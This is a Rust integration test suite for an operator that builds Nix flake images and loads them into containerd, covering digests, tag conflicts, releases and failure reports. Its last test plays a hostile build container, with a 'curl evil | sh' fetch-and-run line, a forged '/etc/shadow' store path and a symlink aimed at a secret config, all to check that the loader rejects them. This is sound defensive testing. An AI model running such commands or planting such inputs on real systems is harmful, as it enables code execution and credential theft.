//! `enbi-operator build` against real Nix and a real containerd.
//!
//! Each test starts its own containerd (private config, root, state and socket in a temp dir)
//! and builds the offline fixture flake in `tests/fixtures/images` (no nixpkgs, no network: a
//! static busybox makes the images). Without nix, containerd, ctr, runc or a static busybox a
//! test fails in CI (`CI=true`) and elsewhere prints a loud `SKIPPED` line and returns.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::{Command, Stdio};

use enbi_core::reason::FailureReason;
use enbi_core::report::{BuildReport, FailureReport, ImageReport};
use enbi_tests::host::{Containerd, Fixture, NIX_CONFIG, run_builder};

macro_rules! require_tools {
    () => {
        if !enbi_tests::host::tools() {
            return;
        }
    };
}

/// Runs a builder Pod's two containers (`enbi-operator build` and `load`, sharing an image
/// pipe) and returns whether both exited 0, the report and their output.
fn build(
    containerd: &Path,
    flake_url: &str,
    package: &str,
    tag: &str,
    extra: &[&str],
) -> (bool, BuildReport, String) {
    let system = system();
    let run = run_builder(
        Path::new(env!("CARGO_BIN_EXE_enbi-operator")),
        containerd,
        &[
            "build",
            "--flake-url",
            flake_url,
            "--package-name",
            package,
            "--system",
            &system,
        ],
        &[&["load", "--image-tag", tag], extra].concat(),
        &[],
    );
    assert!(run.report.len() <= 4096);
    let report = BuildReport::parse(&run.report).expect("report parses");
    // The build container exits 0 once it handed its result over; the loader's exit is the
    // build's result.
    assert!(
        run.built || !run.loaded,
        "the build container failed:\n{}",
        run.log
    );
    (run.loaded, report, run.log)
}

fn system() -> String {
    match std::env::consts::ARCH {
        "aarch64" => "aarch64-linux".into(),
        _ => "x86_64-linux".into(),
    }
}

fn succeeded(result: (bool, BuildReport, String)) -> ImageReport {
    match result {
        (true, BuildReport::Succeeded(image), _) => image,
        (ok, report, stdout) => panic!("build failed (exit ok: {ok}): {report:?}\n{stdout}"),
    }
}

fn failed(result: (bool, BuildReport, String)) -> FailureReport {
    match result {
        (false, BuildReport::Failed(failure), _) => failure,
        (ok, report, stdout) => panic!("expected a failure (exit ok: {ok}): {report:?}\n{stdout}"),
    }
}

/// Checks tag, digest, size, Spegel labels and digest reference of a loaded image.
fn assert_loaded(ctd: &Containerd, image: &ImageReport, registry: &str, repository: &str) {
    let (digest, labels) = ctd.image(&image.image_tag).expect("the tag exists");
    assert_eq!(digest, image.digest);
    assert!(
        labels.contains(&format!(
            "enbi.hrzn.ee/store-path={}",
            image.provenance.store_path
        )),
        "{labels}"
    );
    // Provenance: the flake as Nix locked it, its derivation, on the image too.
    let provenance = &image.provenance;
    let locked = provenance.locked_flake.as_deref().expect("a locked flake");
    assert!(locked.contains("narHash=sha256-"), "{provenance:?}");
    assert!(provenance.nar_hash.is_some(), "{provenance:?}");
    assert!(
        provenance
            .derivation
            .as_deref()
            .is_some_and(|d| d.starts_with("/nix/store/") && d.ends_with(".drv")),
        "{provenance:?}"
    );
    assert!(
        labels.contains(&format!("org.opencontainers.image.source={locked}")),
        "{labels}"
    );
    let digest_ref = format!("{registry}/{repository}@{digest}");
    assert_eq!(ctd.image(&digest_ref).map(|i| i.0), Some(digest.clone()));
    // Size: manifest, config and layers, as containerd counts them.
    let manifest = ctd.ctr_ok(&["content", "get", &digest]);
    let json: serde_json::Value = serde_json::from_str(&manifest).expect("manifest");
    let mut blobs = vec![(digest.clone(), manifest.len() as u64)];
    for d in std::iter::once(&json["config"]).chain(json["layers"].as_array().expect("layers")) {
        blobs.push((
            d["digest"].as_str().expect("digest").to_owned(),
            d["size"].as_u64().expect("size"),
        ));
    }
    assert_eq!(image.size, blobs.iter().map(|b| b.1).sum::<u64>());
    let label = format!("containerd.io/distribution.source.{registry}=");
    for (blob, _) in &blobs {
        let labels = ctd.content_labels(blob);
        let value = labels
            .split(['\t', ','])
            .find_map(|l| l.strip_prefix(&label))
            .unwrap_or_else(|| panic!("{blob} has no {label}: {labels}"));
        assert!(labels.contains(repository), "{blob}: {value} in {labels}");
    }
    // Unpacked for the CRI's snapshotter: a one-layer image's chain ID is its layer's diff ID.
    let snapshots = ctd.ctr_ok(&["snapshots", "--snapshotter", "overlayfs", "ls"]);
    assert!(snapshots.contains(&blobs[2].0), "not unpacked: {snapshots}");
    // No temporary names left behind.
    let names = ctd.names();
    assert!(
        !names.iter().any(|n| n.starts_with("enbi-import-")),
        "{names:?}"
    );
}

#[test]
fn a_stream_script_is_loaded_under_the_normalised_tag_and_runs() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let image = succeeded(build(
        &ctd.socket(),
        &flake.url(),
        "stream",
        "enbi-test/stream:v1",
        &["--pin"],
    ));
    assert_eq!(image.image_tag, "docker.io/enbi-test/stream:v1");
    assert!(image.imported);
    assert!(image.bytes_streamed > image.size / 2, "{image:?}");
    assert_loaded(&ctd, &image, "docker.io", "enbi-test/stream");
    let (_, labels) = ctd.image(&image.image_tag).expect("tag");
    assert!(
        labels.contains("io.cri-containerd.pinned=pinned"),
        "{labels}"
    );
    // The archive's own name (fixture/stream:built) was not created.
    assert_eq!(ctd.image("docker.io/fixture/stream:built"), None);
    assert_eq!(
        ctd.run(&image.image_tag, "stream").trim(),
        "hello from the stream"
    );

    // Unchanged flake, image present: nothing streamed, same answer, quickly.
    let again = succeeded(build(
        &ctd.socket(),
        &flake.url(),
        "stream",
        "enbi-test/stream:v1",
        &["--pin"],
    ));
    assert!(!again.imported);
    assert_eq!(again.bytes_streamed, 0);
    assert_eq!(
        (again.digest.as_str(), again.size),
        (image.digest.as_str(), image.size)
    );
    assert!(again.timings.total_ms < 2000, "{:?}", again.timings);
}

#[test]
fn archives_plain_and_gzipped_are_loaded_and_run() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    for (package, tag, message) in [
        (
            "archive",
            "registry.example:5000/team/archive:v1",
            "hello from the archive",
        ),
        (
            "archive-gz",
            "archive-gz:v1",
            "hello from the gzipped archive",
        ),
    ] {
        let image = succeeded(build(&ctd.socket(), &flake.url(), package, tag, &[]));
        let (registry, repository) = enbi_core::reference::registry_and_repository(tag);
        assert_eq!(image.image_tag, enbi_core::reference::normalise(tag));
        assert_loaded(&ctd, &image, &registry, &repository);
        let (_, labels) = ctd.image(&image.image_tag).expect("tag");
        assert!(!labels.contains("pinned"), "{labels}");
        assert_eq!(ctd.run(&image.image_tag, package).trim(), message);
    }
}

#[test]
fn a_tag_naming_another_image_is_refused_unless_overwriting_is_allowed() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let tag = "docker.io/enbi-test/conflict:v1";
    let first = succeeded(build(&ctd.socket(), &flake.url(), "stream", tag, &[]));

    let conflict = failed(build(&ctd.socket(), &flake.url(), "stream-other", tag, &[]));
    assert_eq!(conflict.reason, FailureReason::TagConflict);
    assert!(
        conflict.message.contains("--allow-overwrite"),
        "{}",
        conflict.message
    );
    assert_eq!(ctd.image(tag).map(|i| i.0), Some(first.digest.clone()));
    assert!(!ctd.names().iter().any(|n| n.starts_with("enbi-import-")));
    assert_eq!(ctd.run(tag, "kept").trim(), "hello from the stream");

    let other = succeeded(build(
        &ctd.socket(),
        &flake.url(),
        "stream-other",
        tag,
        &["--allow-overwrite"],
    ));
    assert!(other.imported);
    assert_ne!(other.digest, first.digest);
    assert_loaded(&ctd, &other, "docker.io", "enbi-test/conflict");
    assert_eq!(
        ctd.run(tag, "overwritten").trim(),
        "hello from the other stream"
    );
}

#[test]
fn the_image_digest_is_what_ctr_images_import_gives_the_same_bytes() {
    require_tools!();
    let ours = Containerd::start();
    let theirs = Containerd::start();
    let flake = Fixture::new();
    for package in ["stream", "stream-layers-small", "archive", "archive-gz"] {
        let image = succeeded(build(
            &ours.socket(),
            &flake.url(),
            package,
            &format!("enbi-test/{package}:v1"),
            &[],
        ));
        // The same bytes, as a file: what the stream script writes, or the archive (gunzipped:
        // containerd 1.7's importer takes only a plain tar).
        let store_path = Path::new(&image.provenance.store_path);
        let file = ours.dir.path().join(format!("{package}.tar"));
        let bytes = match package {
            "stream" | "stream-layers-small" => {
                Command::new(store_path).output().expect("runs").stdout
            }
            _ => std::fs::read(store_path).expect("read"),
        };
        let mut tar = vec![];
        if bytes.starts_with(&[0x1f, 0x8b]) {
            use std::io::Read;
            flate2::read::GzDecoder::new(bytes.as_slice())
                .read_to_end(&mut tar)
                .expect("gunzip");
        } else {
            tar = bytes;
        }
        std::fs::write(&file, tar).expect("write");
        let file = file.display().to_string();
        theirs.ctr_ok(&[
            "images",
            "import",
            "--base-name",
            package,
            "--digests",
            &file,
        ]);
        let name = format!("{package}@{}", image.digest);
        assert!(
            theirs.names().contains(&name),
            "{name}: {:?}",
            theirs.names()
        );
    }
}

#[test]
fn a_load_of_what_the_node_has_unpacks_nothing_again() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let tag = "enbi-test/reload:v1";
    let first = succeeded(build(&ctd.socket(), &flake.url(), "stream", tag, &[]));
    // The tag gone, its blobs and snapshots kept (another name holds them): a new load of the
    // same bytes writes no blob and unpacks nothing.
    ctd.ctr_ok(&[
        "images",
        "tag",
        &first.image_tag,
        "docker.io/enbi-test/keep:v1",
    ]);
    ctd.ctr_ok(&["images", "rm", &first.image_tag]);
    let snapshots = ctd.ctr_ok(&["snapshots", "--snapshotter", "overlayfs", "ls"]);
    let (ok, report, log) = build(&ctd.socket(), &flake.url(), "stream", tag, &[]);
    let BuildReport::Succeeded(again) = report else {
        panic!("{ok}: {report:?}\n{log}")
    };
    assert!(again.imported);
    assert!(log.contains("files: 0 written"), "{log}");
    assert_eq!(again.digest, first.digest);
    assert_loaded(&ctd, &again, "docker.io", "enbi-test/reload");
    assert_eq!(
        ctd.ctr_ok(&["snapshots", "--snapshotter", "overlayfs", "ls"]),
        snapshots
    );
}

#[test]
fn a_changed_layer_is_all_a_reload_writes_and_unpacks() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let tag = "docker.io/enbi-test/layers:v1";
    // streamLayeredImage's order and names: three layers named by their checksum, base first,
    // each unpacked while the next streams in.
    let (ok, report, log) = build(&ctd.socket(), &flake.url(), "stream-layers-small", tag, &[]);
    assert!(ok, "{report:?}\n{log}");
    assert!(
        log.contains("files: 4 written, 0 already in the content store (0 of them not sent); layers unpacked while streaming: 3"),
        "{log}"
    );
    // The top layer changed: two layers are checked and dropped (not sent to containerd),
    // the new one and the config are written, one layer is unpacked.
    let (ok, report, log) = build(
        &ctd.socket(),
        &flake.url(),
        "stream-layers-small-changed",
        tag,
        &["--allow-overwrite"],
    );
    let BuildReport::Succeeded(image) = report else {
        panic!("{ok}: {report:?}\n{log}")
    };
    assert!(
        log.contains("files: 2 written, 2 already in the content store (2 of them not sent); layers unpacked while streaming: 1"),
        "{log}"
    );
    assert_loaded(&ctd, &image, "docker.io", "enbi-test/layers");
    assert_eq!(
        ctd.run(tag, "changed").trim(),
        "hello from the changed layers"
    );
}

#[test]
fn two_loads_of_one_image_at_once_both_succeed() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let tag = "docker.io/enbi-test/twice:v1";
    // The same blobs, snapshots and tag, written by two loaders at the same moment.
    let (a, b) = std::thread::scope(|s| {
        let load = || {
            s.spawn(|| {
                succeeded(build(
                    &ctd.socket(),
                    &flake.url(),
                    "stream-layers-small",
                    tag,
                    &[],
                ))
            })
        };
        let (a, b) = (load(), load());
        (a.join().expect("a"), b.join().expect("b"))
    });
    assert_eq!(a.digest, b.digest);
    assert_loaded(&ctd, &a, "docker.io", "enbi-test/twice");
    assert_eq!(ctd.run(tag, "twice").trim(), "hello from the layers");
}

#[test]
fn an_oci_layout_keeps_its_manifest() {
    require_tools!();
    let theirs = Containerd::start();
    let ours = Containerd::start();
    let flake = Fixture::new();
    let tag = "docker.io/enbi-test/oci:v1";
    let image = succeeded(build(&theirs.socket(), &flake.url(), "stream", tag, &[]));
    // `ctr images export` writes an OCI layout (index.json, with manifest.json beside it).
    let file = theirs.dir.path().join("oci.tar");
    theirs.ctr_ok(&["images", "export", &file.display().to_string(), tag]);
    let handoff = format!(
        "{{\"result\":\"Built\",\"storePath\":\"{}\",\"buildMs\":1}}\n",
        image.provenance.store_path
    );
    let loaded = match load_from(&ours.socket(), &[], |pipe| {
        let mut bytes = handoff.into_bytes();
        bytes.extend(std::fs::read(&file).expect("the export"));
        write_pipe(pipe, &bytes);
    }) {
        (true, BuildReport::Succeeded(loaded), _) => loaded,
        (_, report, log) => panic!("{report:?}\n{log}"),
    };
    assert_eq!(loaded.digest, image.digest);
    assert_eq!(
        ours.run("docker.io/enbi-test/hostile:v1", "oci").trim(),
        "hello from the stream"
    );
}

/// Runs `enbi-operator release` on the image enbi loaded under `tag` with `digest`.
fn release(containerd: &Path, tag: &str, digest: &str, extra: &[&str]) -> (bool, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let report = dir.path().join("report");
    let out = Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
        .args(["release", "--image-tag", tag, "--image-digest", digest])
        .arg("--containerd-address")
        .arg(containerd)
        .arg("--termination-log")
        .arg(&report)
        .args(extra)
        .output()
        .expect("release runs");
    let text = std::fs::read_to_string(&report).unwrap_or_default();
    (out.status.success(), text)
}

#[test]
fn a_release_removes_the_image_unless_a_container_uses_it() {
    use enbi_core::release::ReleaseReport;
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let tag = "docker.io/enbi-test/release:v1";
    let load = || {
        succeeded(build(
            &ctd.socket(),
            &flake.url(),
            "stream",
            tag,
            &["--pin"],
        ))
    };
    let released = |tag: &str, digest: &str| {
        let (ok, text) = release(&ctd.socket(), tag, digest, &[]);
        assert!(ok, "{text}");
        ReleaseReport::parse(&text).expect("a report")
    };
    let image = load();
    let by_digest = format!("docker.io/enbi-test/release@{}", image.digest);
    assert!(ctd.image(&by_digest).is_some());

    // A container made from the image (created, not started: its snapshot is what counts):
    // both names stay, unpinned, marked released.
    ctd.ctr_ok(&["containers", "create", tag, "user"]);
    let report = released(tag, &image.digest);
    assert!(report.in_use, "{report:?}");
    assert!(report.removed.is_empty());
    for name in [tag, by_digest.as_str()] {
        let (_, labels) = ctd.image(name).unwrap_or_else(|| panic!("{name} kept"));
        assert!(!labels.contains("pinned"), "{name}: {labels}");
        assert!(
            labels.contains("enbi.hrzn.ee/released=true"),
            "{name}: {labels}"
        );
    }
    // A new load of the same tag claims it again.
    load();
    let (_, labels) = ctd.image(tag).expect("tag");
    assert!(!labels.contains("released"), "{labels}");
    assert!(labels.contains("pinned"), "{labels}");
    released(tag, &image.digest);

    // The container goes. The next release on the node (of another image) removes what this
    // one left.
    ctd.ctr_ok(&["containers", "rm", "user"]);
    let other_tag = "docker.io/enbi-test/release-other:v1";
    let other = succeeded(build(
        &ctd.socket(),
        &flake.url(),
        "stream-other",
        other_tag,
        &[],
    ));
    let report = released(other_tag, &other.digest);
    assert!(!report.in_use);
    assert_eq!(report.removed.len(), 2, "{report:?}");
    let mut swept = report.swept.clone();
    swept.sort();
    assert_eq!(swept, [tag.to_owned(), by_digest.clone()]);
    assert_eq!((ctd.image(tag), ctd.image(&by_digest)), (None, None));

    // Loaded again. It has two more names: its ID, as the CRI names every image, and another
    // tag. The release removes its own two names, and keeps the ID while another name is left.
    load();
    let id = format!("sha256:{}", "e".repeat(64));
    let someone = "docker.io/enbi-test/someone-else:v1";
    ctd.ctr_ok(&["images", "tag", tag, &id]);
    ctd.ctr_ok(&["images", "tag", tag, someone]);
    let report = released(tag, &image.digest);
    assert_eq!(report.removed, [tag.to_owned(), by_digest.clone()]);
    assert!(ctd.image(&id).is_some() && ctd.image(someone).is_some());
    // Without another name, the ID goes with the last of enbi's.
    ctd.ctr_ok(&["images", "rm", someone]);
    ctd.ctr_ok(&["images", "tag", &id, tag]);
    let report = released(tag, &image.digest);
    assert_eq!(report.removed, [tag.to_owned(), id.clone()]);
    assert_eq!(ctd.image(&id), None);

    // Nothing there: nothing to do.
    assert_eq!(released(tag, &image.digest), ReleaseReport::default());
}

#[test]
fn a_release_keeps_what_is_not_its_own() {
    use enbi_core::release::ReleaseReport;
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let tag = "docker.io/enbi-test/kept:v1";
    let first = succeeded(build(
        &ctd.socket(),
        &flake.url(),
        "stream",
        tag,
        &["--pin"],
    ));
    // The tag overwritten since by another image (whose load removed the first's digest
    // reference): a release of the first leaves the tag alone.
    let other = succeeded(build(
        &ctd.socket(),
        &flake.url(),
        "stream-other",
        tag,
        &["--pin", "--allow-overwrite"],
    ));
    let (ok, text) = release(&ctd.socket(), tag, &first.digest, &[]);
    assert!(ok, "{text}");
    assert_eq!(ReleaseReport::parse(&text), Some(ReleaseReport::default()));
    assert_eq!(ctd.image(tag).map(|i| i.0), Some(other.digest.clone()));

    // Another NixBuild's image has the digest reference: it is kept, only unpinned.
    let (ok, text) = release(
        &ctd.socket(),
        tag,
        &other.digest,
        &["--keep-digest-reference"],
    );
    assert!(ok, "{text}");
    let report = ReleaseReport::parse(&text).expect("a report");
    assert_eq!(report.removed, [tag.to_owned()]);
    let other_by_digest = format!("docker.io/enbi-test/kept@{}", other.digest);
    let (_, labels) = ctd.image(&other_by_digest).expect("kept");
    assert!(!labels.contains("pinned"), "{labels}");

    // A bad digest is refused with a clear error.
    let (ok, text) = release(&ctd.socket(), tag, "sha256:nope", &[]);
    assert!(!ok);
    assert!(text.contains("invalid image digest"), "{text}");
}

#[test]
fn failures_are_reported_with_their_category() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let socket = ctd.socket();
    let cases: [(&str, &str, FailureReason, &str); 4] = [
        (
            "path:/nonexistent/enbi-flake",
            "stream",
            FailureReason::EvalFailed,
            "/nonexistent/enbi-flake",
        ),
        (
            &flake.url(),
            "no-such-package",
            FailureReason::EvalFailed,
            "does not provide attribute",
        ),
        (
            &flake.url(),
            "broken",
            FailureReason::BuildFailed,
            "builder for",
        ),
        (
            &flake.url(),
            "not-an-image",
            FailureReason::NotAnImage,
            "is a directory, not an image",
        ),
    ];
    for (url, package, reason, says) in cases {
        let failure = failed(build(&socket, url, package, "enbi-test/failure:v1", &[]));
        assert_eq!(failure.reason, reason, "{package}: {failure:?}");
        assert!(
            failure.message.contains(says),
            "{package}: {}",
            failure.message
        );
    }
    let broken = failed(build(
        &socket,
        &flake.url(),
        "broken",
        "enbi-test/f:v1",
        &[],
    ));
    assert!(
        broken.log_tail.contains("this build fails on purpose"),
        "{}",
        broken.log_tail
    );

    let missing = ctd.dir.path().join("no-such.sock");
    let failure = failed(build(
        &missing,
        &flake.url(),
        "stream",
        "enbi-test/f:v1",
        &[],
    ));
    assert_eq!(failure.reason, FailureReason::ImportFailed);
    assert!(
        failure.message.contains(&missing.display().to_string()),
        "{}",
        failure.message
    );
    // The build container did not build for nothing: it stopped when the loader did.
    let (_, _, log) = build(&missing, &flake.url(), "stream", "enbi-test/f:v1", &[]);
    assert!(
        log.contains("the load container exited before the build container connected")
            || log.contains("the load container stopped reading"),
        "{log}"
    );
    assert!(!log.contains("built /nix/store"), "{log}");

    let failure = failed(build(
        &socket,
        "not a flake",
        "stream",
        "enbi-test/f:v1",
        &[],
    ));
    assert!(
        failure.message.starts_with("invalid build input: flakeUrl"),
        "{}",
        failure.message
    );
    assert!(ctd.names().is_empty(), "{:?}", ctd.names());
}

#[test]
fn every_flag_is_also_an_environment_variable() {
    require_tools!();
    let ctd = Containerd::start();
    let flake = Fixture::new();
    let out_dir = tempfile::tempdir().expect("tempdir");
    let termination_log = out_dir.path().join("report");
    let pipe = out_dir.path().join("image");
    let build_env = BTreeMap::from([
        ("ENBI_FLAKE_URL", flake.url()),
        ("ENBI_PACKAGE_NAME", "archive".into()),
        ("ENBI_SYSTEM", system()),
        ("ENBI_STORE", "pod".into()),
        ("ENBI_BUILD_TIMEOUT", "600".into()),
        ("ENBI_IMAGE_PIPE", pipe.display().to_string()),
    ]);
    let load_env = BTreeMap::from([
        ("ENBI_IMAGE_TAG", "enbi-test/env:v1".into()),
        (
            "ENBI_CONTAINERD_ADDRESS",
            ctd.socket().display().to_string(),
        ),
        ("ENBI_CONTAINERD_NAMESPACE", "k8s.io".into()),
        ("ENBI_SNAPSHOTTER", "overlayfs".into()),
        ("ENBI_PIN", "true".into()),
        ("ENBI_BUILD_TIMEOUT", "600".into()),
        ("ENBI_IMPORT_TIMEOUT", "600".into()),
        ("ENBI_MAX_IMAGE_BYTES", "100000000".into()),
        ("ENBI_IMAGE_PIPE", pipe.display().to_string()),
        (
            "ENBI_TERMINATION_LOG",
            termination_log.display().to_string(),
        ),
    ]);
    let spawn = |command: &str, env: BTreeMap<&str, String>| {
        Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
            .arg(command)
            .envs(env)
            .env("NIX_CONFIG", NIX_CONFIG)
            .stdout(Stdio::null())
            .spawn()
            .expect("runs")
    };
    let mut loader = spawn("load", load_env);
    let mut builder = spawn("build", build_env);
    assert!(builder.wait().expect("build").success());
    assert!(loader.wait().expect("load").success());
    let report = std::fs::read_to_string(termination_log).expect("report");
    let BuildReport::Succeeded(image) = BuildReport::parse(&report).expect("parses") else {
        panic!("{report}")
    };
    let (_, labels) = ctd.image(&image.image_tag).expect("tag");
    assert!(
        labels.contains("io.cri-containerd.pinned=pinned"),
        "{labels}"
    );
}

/// Runs only the load container against `write`, which plays a hostile build container: it
/// gets the image pipe's path once the loader is waiting on it. Returns the loader's report.
fn load_from(
    containerd: &Path,
    extra: &[&str],
    write: impl FnOnce(&Path),
) -> (bool, BuildReport, String) {
    load_after(containerd, extra, |_| {}, write)
}

/// [`load_from`], with `before` run on the pipe's path before the loader starts.
fn load_after(
    containerd: &Path,
    extra: &[&str],
    before: impl FnOnce(&Path),
    write: impl FnOnce(&Path),
) -> (bool, BuildReport, String) {
    let dir = tempfile::tempdir().expect("tempdir");
    let pipe = dir.path().join("image");
    let report = dir.path().join("report");
    before(&pipe);
    let loader = Command::new(env!("CARGO_BIN_EXE_enbi-operator"))
        .args(["load", "--image-tag", "enbi-test/hostile:v1"])
        .args(["--build-timeout", "20"])
        .arg("--image-pipe")
        .arg(&pipe)
        .arg("--containerd-address")
        .arg(containerd)
        .arg("--termination-log")
        .arg(&report)
        .args(extra)
        .stdout(Stdio::piped())
        .spawn()
        .expect("load runs");
    write(&pipe);
    let out = loader.wait_with_output().expect("load runs");
    let log = String::from_utf8_lossy(&out.stdout).into_owned();
    let text =
        std::fs::read_to_string(&report).unwrap_or_else(|e| panic!("no report ({e}): {log}"));
    let report = BuildReport::parse(&text).expect("report parses");
    (out.status.success(), report, log)
}

/// Opens the pipe for writing once the loader made it, and writes `bytes` (ignoring a loader
/// that stopped reading).
fn write_pipe(pipe: &Path, bytes: &[u8]) {
    use std::io::Write;
    for _ in 0..200 {
        if pipe.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(25));
    }
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .open(pipe)
        .expect("open the pipe");
    let _ = file.write_all(bytes);
}

#[test]
fn the_loader_trusts_nothing_the_build_container_writes() {
    require_tools!();
    let ctd = Containerd::start();
    let socket = ctd.socket();
    let store_path = "/nix/store/0c3wqyd9vls0spc0lqcp6kmq0q1fndkd-hostile";

    // A failure it may not claim: a tag conflict would blame the tag, not the build.
    let claimed = failed(load_from(&socket, &[], |pipe| {
        write_pipe(
            pipe,
            b"{\"result\":\"Failed\",\"reason\":\"TagConflict\",\"message\":\"not mine\"}\n",
        )
    }));
    assert_eq!(claimed.reason, FailureReason::BuildFailed);

    // A store path that is not one (it would become an image label).
    let bad_path = failed(load_from(&socket, &[], |pipe| {
        write_pipe(
            pipe,
            b"{\"result\":\"Built\",\"storePath\":\"/etc/shadow\",\"buildMs\":1}\n",
        )
    }));
    assert_eq!(bad_path.reason, FailureReason::BuildFailed);
    assert!(
        bad_path.message.contains("/etc/shadow"),
        "{}",
        bad_path.message
    );

    // An endless stream: refused at the size limit, nothing imported.
    let handoff =
        format!("{{\"result\":\"Built\",\"storePath\":\"{store_path}\",\"buildMs\":1}}\n");
    let too_large = failed(load_from(
        &socket,
        &["--max-image-bytes", "1048576"],
        |pipe| {
            let mut bytes = handoff.clone().into_bytes();
            bytes.extend(std::iter::repeat_n(0u8, 4 << 20));
            write_pipe(pipe, &bytes);
        },
    ));
    assert!(
        too_large.message.contains("1048576-byte limit"),
        "{}",
        too_large.message
    );

    // Not an archive at all.
    let garbage = failed(load_from(&socket, &[], |pipe| {
        let mut bytes = handoff.clone().into_bytes();
        bytes.extend(b"#!/bin/sh\ncurl evil | sh\n".repeat(100));
        write_pipe(pipe, &bytes);
    }));
    assert_eq!(garbage.reason, FailureReason::NotAnImage, "{garbage:?}");

    // A build container that started first and put a link (or a file) where the pipe goes:
    // never followed, never read.
    let secret = ctd.dir.path().join("config.toml");
    let linked = failed(load_after(
        &socket,
        &[],
        |pipe| std::os::unix::fs::symlink(&secret, pipe).expect("link"),
        |_| {},
    ));
    assert_eq!(linked.reason, FailureReason::BuildFailed, "{linked:?}");
    let file = failed(load_after(
        &socket,
        &[],
        |pipe| std::fs::write(pipe, handoff.as_bytes()).expect("file"),
        |_| {},
    ));
    assert!(file.message.contains("is not a FIFO"), "{file:?}");
    assert!(ctd.names().is_empty(), "{:?}", ctd.names());
}
